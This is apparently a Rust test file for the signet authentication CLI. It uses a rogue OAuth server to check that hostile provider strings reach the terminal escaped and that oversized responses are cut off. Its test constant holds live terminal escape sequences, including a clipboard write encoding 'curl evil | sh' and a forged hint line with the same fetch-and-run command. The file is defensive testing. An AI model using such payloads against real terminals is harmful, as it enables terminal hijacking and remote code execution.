//! What a hostile server can put in front of a person (issue 15, findings
//! 14 and 15): strings with terminal escape sequences reach the terminal
//! escaped, and no answer is read past 1 MiB.

use serde_json::json;

use crate::harness::{Home, Login, Run};
use crate::rogue::{Answer, Rogue, discovery, unsigned_jwt};

/// Set the window title, clear the screen (also as the one-byte C1 CSI),
/// write the clipboard (OSC 52), ring the bell, and start a line of
/// signet's own.
const ESCAPES: &str =
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}2J\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\r\nhint: curl evil | sh";

/// Nothing of `ESCAPES` acts on a terminal: no escape, bell or carriage
/// return, and no `hint:` line but signet's own.
fn inert(r: &Run, what: &str) {
    for (stream, text) in [("stdout", &r.stdout), ("stderr", &r.stderr)] {
        assert!(
            !text.contains(['\u{1b}', '\u{7}', '\r', '\u{9b}']),
            "{what}: a control character reached {stream}: {text:?}"
        );
        assert!(!text.lines().any(|l| l.starts_with("hint: curl")), "{what}: a forged hint line on {stream}: {text}");
    }
}

fn home_for(rogue: &Rogue, settings: &[(&str, &str)]) -> Home {
    let h = Home::new();
    h.ok(&["config", "set", "auth.storage.type=file"]);
    h.ok(&["config", "set", &format!("service.evil.issuer={}", rogue.base)]);
    for (k, v) in settings {
        h.ok(&["config", "set", &format!("service.evil.{k}={v}")]);
    }
    h
}

#[tokio::test(flavor = "multi_thread")]
async fn finding_14_provider_strings_reach_the_terminal_escaped() {
    let rogue = Rogue::start(|r, base| match r.path.as_str() {
        "/.well-known/openid-configuration" => Answer::Json(200, discovery(base)),
        "/device" => Answer::Json(
            200,
            json!({
                "device_code": "dc-1",
                "user_code": format!("WDJB{ESCAPES}"),
                "verification_uri": format!("{base}/activate"),
                "verification_uri_complete": format!("{base}/activate?x={ESCAPES}"),
                "expires_in": 60,
                "interval": 1,
            }),
        ),
        // The device sign-on succeeds, as a person whose name is an escape sequence.
        "/token" if r.form.get("grant_type").is_some_and(|g| g.contains("device_code")) => Answer::Json(
            200,
            json!({
                "access_token": "at-1",
                "token_type": "Bearer",
                "expires_in": 600,
                "scope": format!("openid {ESCAPES}"),
                "id_token": unsigned_jwt(&json!({"sub": "s", "username": format!("root{ESCAPES}")})),
            }),
        ),
        "/token" => {
            Answer::Json(400, json!({"error": format!("access_denied{ESCAPES}"), "error_description": ESCAPES}))
        }
        "/admin-api/v1/accounts" => Answer::Json(
            200,
            // A whole account, as the admin API's type has it, with hostile strings.
            json!({"items": [{"username": format!("root{ESCAPES}"), "roles": [ESCAPES], "active": true,
                "auditor": false, "mfa_enrolled": false, "locked": false, "password_change_required": false,
                "created_at": 0}]}),
        ),
        _ => Answer::Json(403, json!({"error": "forbidden", "message": ESCAPES})),
    })
    .await;

    // The device flow: user_code and the URLs, then the subject and scopes.
    let h = home_for(&rogue, &[("authentication.type", "device_code"), ("authentication.deviceCode.clientID", "cli")]);
    let login = h.run_async(&["auth", "login", "--service", "evil"]).await;
    assert_eq!(login.code, 0, "{}", login.stderr);
    inert(&login, "device login");
    assert!(login.stderr.contains("enter the code WDJB\\u{1b}]0;owned\\u{7}"), "shown escaped: {}", login.stderr);
    assert!(login.stdout.contains("signed on to evil as root\\u{1b}"), "{}", login.stdout);
    let status = h.run_async(&["auth", "status"]).await;
    assert_eq!(status.code, 0, "{}", status.stderr);
    inert(&status, "auth status");
    assert!(status.stdout.contains("root\\u{1b}]0;owned"), "{}", status.stdout);
    // JSON for scripts: escaped too, and it reads back as the provider's string.
    let json = h.run_async(&["-O", "json", "auth", "status"]).await;
    inert(&json, "auth status -O json");
    assert_eq!(json.json()["services"][0]["subject"], format!("root{ESCAPES}"));

    // A refusal at the token endpoint: error and error_description.
    let worker = home_for(
        &rogue,
        &[
            ("authentication.type", "worker"),
            ("authentication.worker.clientID", "w"),
            ("authentication.worker.clientSecret", "s"),
        ],
    );
    let refused = worker.run_async(&["auth", "login"]).await;
    assert_eq!(refused.code, 1);
    inert(&refused, "token refusal");
    assert!(refused.stderr.contains("refused by the provider: access_denied\\u{1b}"), "{}", refused.stderr);

    // The browser comes back with the right state and an error_description.
    let code_flow = home_for(
        &rogue,
        &[("authentication.type", "authorization_code"), ("authentication.authorizationCode.clientID", "cli")],
    );
    let (l, url) = Login::start(&code_flow, &["auth", "login", "--no-browser"], "").await;
    let q = signet_testkit::query(&url);
    let mut back = url::Url::parse(&q["redirect_uri"]).unwrap();
    back.query_pairs_mut()
        .append_pair("state", &q["state"])
        .append_pair("error", &format!("access_denied{ESCAPES}"))
        .append_pair("error_description", ESCAPES);
    reqwest::get(back.as_str()).await.unwrap();
    let done = l.finish().await;
    assert_eq!(done.code, 1);
    inert(&done, "authorization error");
    assert!(done.stderr.contains("sign-on refused by the provider: access_denied\\u{1b}"), "{}", done.stderr);

    // The admin API: a refusal's message, and a table of what it lists.
    let admin = Home::new();
    admin.ok(&["config", "set", &format!("service.pingfederate.httpsHost={}", rogue.base)]);
    admin.ok(&["config", "set", "service.pingfederate.authentication.type=basicAuth"]);
    admin.ok(&["config", "set", "service.pingfederate.authentication.basicAuth.username=ops"]);
    admin.ok(&["config", "set", "service.pingfederate.authentication.basicAuth.password=pw"]);
    let forbidden = admin.run_async(&["request", "GET", "/settings"]).await;
    assert_eq!(forbidden.code, 1);
    inert(&forbidden, "admin API refusal");
    assert!(forbidden.stderr.contains("forbidden: \\u{1b}]0;owned"), "{}", forbidden.stderr);
    let listed = admin.run_async(&["accounts", "list"]).await;
    assert_eq!(listed.code, 0, "{}", listed.stderr);
    inert(&listed, "accounts list");
    assert!(listed.stdout.contains("root\\u{1b}"), "{}", listed.stdout);
}

/// A profile whose `evil` service is a worker of `rogue`.
fn worker_of(rogue: &Rogue) -> Home {
    home_for(
        rogue,
        &[
            ("authentication.type", "worker"),
            ("authentication.worker.clientID", "w"),
            ("authentication.worker.clientSecret", "s"),
        ],
    )
}

fn stopped_at_the_bound(r: &Run, what: &str) {
    assert_eq!(r.code, 1, "{what}: {}", r.stderr);
    assert!(r.stderr.contains("is larger than 1024 KiB"), "{what}: {}", r.stderr);
    assert!(r.stderr.contains("hint:"), "{what}: {}", r.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn finding_15_a_huge_discovery_document_stops_with_an_error() {
    // Without a length, going on and on; and with a length of 5 GiB.
    let answers: [fn() -> Answer; 2] = [|| Answer::Endless(200), || Answer::Declared(5 << 30)];
    for answer in answers {
        let rogue = Rogue::start(move |_, _| answer()).await;
        let h = worker_of(&rogue);
        stopped_at_the_bound(&h.run_async(&["auth", "login"]).await, "discovery");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn finding_15_every_answer_signet_reads_is_bounded() {
    // Discovery is sound; `endless` names the one endpoint that never ends
    // (with a refusal's status: signet reads a revocation's answer only then).
    let start = |endless: &'static str| {
        Rogue::start(move |r, base| match r.path.as_str() {
            "/revoke" if endless == "/revoke" => Answer::Endless(400),
            p if p == endless => Answer::Endless(200),
            "/.well-known/openid-configuration" => Answer::Json(200, discovery(base)),
            "/token" => Answer::Json(200, json!({"access_token": "at", "token_type": "Bearer", "expires_in": 600})),
            _ => Answer::Json(200, json!({"active": true})),
        })
    };

    // The token endpoint (through the oauth2 client), and the device endpoint.
    let token = start("/token").await;
    stopped_at_the_bound(&worker_of(&token).run_async(&["auth", "login"]).await, "token");
    let device = start("/device").await;
    let h = home_for(&device, &[("authentication.type", "device_code"), ("authentication.deviceCode.clientID", "cli")]);
    stopped_at_the_bound(&h.run_async(&["auth", "login"]).await, "device authorization");

    // Revocation at logout: the tokens are forgotten here, with a warning saying why.
    let revoke = start("/revoke").await;
    let h = worker_of(&revoke);
    assert_eq!(h.run_async(&["auth", "login"]).await.code, 0);
    let out = h.run_async(&["auth", "logout"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains("not revoked") && out.stderr.contains("is larger than 1024 KiB"), "{}", out.stderr);

    // The admin API, through `signet request` and a typed command.
    let api = start("/admin-api/v1/accounts").await;
    let h = Home::new();
    h.ok(&["config", "set", &format!("service.pingfederate.httpsHost={}", api.base)]);
    h.ok(&["config", "set", "service.pingfederate.authentication.type=basicAuth"]);
    h.ok(&["config", "set", "service.pingfederate.authentication.basicAuth.username=ops"]);
    h.ok(&["config", "set", "service.pingfederate.authentication.basicAuth.password=pw"]);
    stopped_at_the_bound(&h.run_async(&["request", "GET", "/accounts"]).await, "signet request");
    stopped_at_the_bound(&h.run_async(&["accounts", "list"]).await, "accounts list");

    // A worker's session is checked by introspection.
    let introspect = start("/introspect").await;
    let h = worker_of(&introspect);
    let key = std::sync::Arc::new(signet_client::ProofKey::generate().unwrap());
    let file = signet_client::SessionFile {
        service: "evil".into(),
        issuer: introspect.base.clone(),
        client_id: "w".into(),
        access_token: "at".into(),
        refresh_token: None,
        expires_at: 4_000_000_000,
        jkt: key.thumbprint().to_owned(),
        private_key_file: None,
        minted: true,
        subject: None,
    };
    signet_client::Session::new(h.dir.join("state/signet/sessions/default"), file, key).save().unwrap();
    stopped_at_the_bound(&h.run_async(&["session", "validate"]).await, "introspection");
}
